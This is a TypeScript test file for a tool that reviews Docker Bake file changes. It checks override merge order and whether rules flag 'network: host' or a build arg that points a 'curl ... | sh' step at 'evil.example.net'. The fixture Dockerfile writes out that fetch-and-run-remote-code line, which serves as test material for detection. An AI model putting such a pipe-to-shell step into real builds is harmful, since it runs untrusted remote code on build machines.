/** Bake files that bake takes together without being told: the later ones over the earlier ones, each with its own places. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type BakeArgument, resolveTogether } from '../../../src/model/bake/bake-targets.ts';
import { messageText } from '../../../src/report/wording.ts';
import { positions, Source } from '../../../src/source.ts';
import { reviewed } from '../../gather/review.ts';
import { Chance } from '../compose/chance.ts';
import { bakeTogether, installed } from './buildx.ts';

const names = ['docker-bake.json', 'docker-bake.hcl', 'docker-bake.override.json', 'docker-bake.override.hcl'];
const dockerfile = 'FROM debian:13\nARG HOST=good.example.com\nRUN curl -fsS http://$HOST/x | sh\nUSER app\n';

/** A target that says some of what it is, in the language of the file. */
function written(name: string, attributes: Readonly<Record<string, unknown>>): string {
  const rows = Object.entries(attributes).map(([key, value]) => [key, JSON.stringify(value)] as const);
  return name.endsWith('.hcl')
    ? `target "app" {\n${rows.map(([key, text]) => `  ${key} = ${text.replaceAll('":', '"=')}\n`).join('')}}\n`
    : `{ "target": { "app": {\n${rows.map(([key, text]) => `  ${JSON.stringify(key)}: ${text}`).join(',\n')}\n} } }\n`;
}

async function introduced(before: Record<string, string>, after: Record<string, string>): Promise<string[]> {
  const { findings, unread } = await reviewed({ Dockerfile: dockerfile, ...before }, after, { proving: false });
  assert.deepEqual(unread, []);
  return findings
    .filter(({ standing, severity }) => standing === 'introduced' && severity !== 'low' && severity !== 'info')
    .map(({ rule, at, message }) => {
      const { path, start } = positions(at);
      return `${rule.id} ${path}:${start.line} ${messageText(message, { values: [], places: [] })}`;
    });
}

const own = { context: '.', tags: ['example/app'] };

test('what a later file says counts, whatever the earlier ones say', async () => {
  const chance = new Chance(9);
  for (let i = 0; i < 60; i++) {
    const folder = chance.pick(['', 'deploy/']);
    const earlier = chance.below(names.length - 1);
    const later = earlier + 1 + chance.below(names.length - earlier - 1);
    const [under, over] = [names[earlier]!, names[later]!];
    const base = folder === '' ? own : { ...own, context: '..' };
    const before = {
      [`${folder}${under}`]: written(under, { ...base, network: 'default' }),
      [`${folder}${over}`]: written(over, { labels: { a: 'b' } }),
    };
    const path = `${folder}${over}`;
    const worse = await introduced(before, { [path]: written(over, { labels: { a: 'b' }, network: 'host' }) });
    assert.ok(worse.length === 1 && worse[0]!.startsWith(`build-network-host ${path}:`), `${under} ${over}: ${worse}`);
    // What the later file says already keeps the earlier one from it.
    const held = { ...before, [path]: written(over, { network: 'none' }) };
    const undone = { [`${folder}${under}`]: written(under, { ...base, network: 'host' }) };
    assert.deepEqual(await introduced(held, undone), [], `${under} ${over}`);
    assert.equal((await introduced(before, undone)).length, 1, `${under} ${over}`);
    // Another host for what is piped into a shell, in the file that alone changes.
    const args = await introduced(before, { [path]: written(over, { args: { HOST: 'evil.example.net' } }) });
    assert.ok(
      args.some((each) => each.startsWith('pipe-to-shell ')),
      `${under} ${over}: ${args}`,
    );
  }
});

test('files come to what they come to for bake', { skip: installed ? false : 'docker-buildx is not installed' }, () => {
  const chance = new Chance(10);
  const some = (make: () => unknown) => (chance.is(0.4) ? make() : undefined);
  const text = () => chance.pick(['a', 'b', 'c', 'd/e']);
  const map = () => ({ [chance.pick(['A', 'B', 'C'])]: text(), [chance.pick(['D', 'E'])]: text() });
  for (let i = 0; i < 100; i++) {
    const texts = Object.fromEntries(
      names
        .filter(() => chance.is(0.6))
        // Where both of these are, releases take them in another order.
        .filter((name, _, all) => name !== 'docker-bake.override.json' || !all.includes('docker-bake.hcl'))
        .map((name) => {
          const all = { context: some(text), dockerfile: some(text), target: some(text) };
          const maps = { args: some(map), labels: some(map) };
          const said = Object.entries({ ...all, ...maps }).filter(([, value]) => value !== undefined);
          return [name, written(name, Object.fromEntries(said))];
        }),
    );
    const theirs = bakeTogether(texts, ['app'])?.app;
    if (!theirs) continue;
    const sources = names.flatMap((name) => (texts[name] ? new Source(name, texts[name]) : []));
    const [ours] = resolveTogether(sources).targets;
    const mapped = (items: readonly BakeArgument[]) =>
      Object.fromEntries(items.map(({ name, value }) => [name, value?.value]));
    const { context, dockerfile, target, args, labels } = ours!;
    assert.deepEqual(
      {
        context: context?.value ?? '.',
        dockerfile: dockerfile?.value ?? 'Dockerfile',
        target: target?.value,
        args: mapped(args),
        labels: mapped(labels),
      },
      {
        context: theirs.context ?? '.',
        dockerfile: theirs.dockerfile ?? 'Dockerfile',
        target: theirs.target,
        args: theirs.args ?? {},
        labels: theirs.labels ?? {},
      },
      JSON.stringify(texts, null, 1),
    );
  }
});

test('a file that bake has to be told of is read alone', async () => {
  const before = {
    'docker-bake.hcl': written('a.hcl', own),
    'docker-bake.ci.override.hcl': written('a.hcl', { labels: {} }),
  };
  const after = { 'docker-bake.ci.override.hcl': written('a.hcl', { args: { HOST: 'evil.example.net' } }) };
  assert.deepEqual(await introduced(before, after), []);
});
